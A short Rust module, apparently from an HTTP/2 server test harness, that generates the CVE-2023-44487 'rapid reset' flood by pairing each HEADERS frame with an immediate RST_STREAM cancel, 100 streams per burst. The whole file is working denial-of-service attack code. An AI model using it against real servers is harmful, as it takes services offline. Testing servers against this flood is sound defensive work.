//! CVE-2023-44487: requests that are reset as soon as they are sent.

use super::{Attack, HOST};
use crate::support::h2::{frame, hpack};

const REQUESTS: u32 = 100;

pub(super) fn attack() -> Attack {
    Attack::flood("rapid reset", frame::opening(&[]), burst)
}

fn burst(number: u32) -> Vec<u8> {
    let block = hpack::get("/", HOST);
    let mut out = Vec::new();
    for request in 0..REQUESTS {
        let stream = (number * REQUESTS + request) * 2 + 1;
        frame::push(&mut out, frame::HEADERS, frame::END_STREAM | frame::END_HEADERS, stream, &block);
        frame::push(&mut out, frame::RST_STREAM, 0, stream, &frame::CANCEL.to_be_bytes());
    }
    out
}
